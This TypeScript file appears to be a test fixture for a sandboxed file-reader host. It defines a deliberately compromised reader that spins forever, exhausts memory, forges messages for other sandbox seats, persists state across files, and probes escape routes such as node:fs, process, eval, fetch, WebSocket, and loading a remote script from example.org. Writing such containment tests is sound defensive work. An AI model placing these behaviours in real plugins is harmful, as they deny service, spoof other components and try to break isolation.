import type { Reader } from '../../../electron/readers/kit/reader';
import { openSeat } from '../../../electron/readers/room/seat';

/** A reader that a stranger has taken over. It does what the text of the file says, and tells what came of it. */
const planted: Reader = async (file, out) => {
  const order = new TextDecoder().decode(await file.read(0, 1000)).trim();
  if (order === 'loop') for (;;);
  if (order === 'grow') grow();
  if (order === 'forge') forge();
  await out.text(1, JSON.stringify(order === 'look' ? await look(file) : { read: order }));
  keep(order);
  return {};
};

/** What it would leave for the next file to fall into. */
const own = globalThis as unknown as Record<string, unknown>;
const kept = 'whatWasReadHere';

function keep(order: string): void {
  own[kept] = order;
  addEventListener('message', ({ data }: MessageEvent<unknown>) => (own[`${kept}Later`] = data));
}

/** Speaks as if it were the room itself, for other seats than its own. */
function forge(): void {
  const say = own.postMessage as (message: unknown) => void;
  for (const seat of [1, 2, 3])
    say({ seat, message: { type: 'read', run: seat, id: 900 + seat, start: 0, length: 64 } });
}

function grow(): never {
  const all: Uint8Array[] = [];
  for (;;) all.push(new Uint8Array(64 * 1024 * 1024).fill(1));
}

/** Every way out that a page or a program of Node has; each tells `nothing` or what it got. */
async function look(file: Parameters<Reader>[0]): Promise<Record<string, string>> {
  const found: Record<string, string> = {};
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    try {
      const got = await work();
      found[name] = got === undefined || got === null ? 'nothing' : `got ${typeof got}`;
    } catch (error) {
      found[name] = error instanceof Error ? 'nothing' : 'threw';
    }
  };
  const name = (of: string): unknown => own[of];
  const call = (of: string, ...given: readonly unknown[]): unknown =>
    (name(of) as (...each: readonly unknown[]) => unknown)(...given);
  const make = (of: string, ...given: readonly unknown[]): unknown =>
    Reflect.construct(name(of) as new (...each: readonly unknown[]) => object, given);
  await attempt('file system', () => call('require', 'node:fs'));
  await attempt('process', () => name('process'));
  await attempt('module of Node', () => import(['node', 'fs'].join(':')));
  await attempt('module of the network', () => import(['https:', 'example.org', 'a.js'].join('/')));
  await attempt('fetch', () => call('fetch', 'lab://readers/index.html'));
  await attempt('request', () => make('XMLHttpRequest'));
  await attempt('socket', () => make('WebSocket', 'wss://example.org'));
  await attempt('events', () => make('EventSource', 'https://example.org'));
  await attempt('script', () => {
    call('importScripts', 'https://example.org/a.js');
    return 'loaded';
  });
  await attempt('worker', () => make('Worker', 'all.js'));
  await attempt('database', () => name('indexedDB'));
  await attempt('caches', () => name('caches'));
  await attempt('storage', () => (own.navigator as { readonly storage?: unknown }).storage);
  await attempt('other pages', () => make('BroadcastChannel', 'lab'));
  await attempt('evaluation', () => call('eval', '1'));
  await attempt('file before', () => name(kept));
  // Beyond its own file there is nothing, whatever it asks for.
  await attempt('bytes behind its own', async () => {
    const bytes = await file.read(file.bytes, 4096);
    return bytes.length === 0 ? null : bytes;
  });
  return found;
}

openSeat({ read: planted });
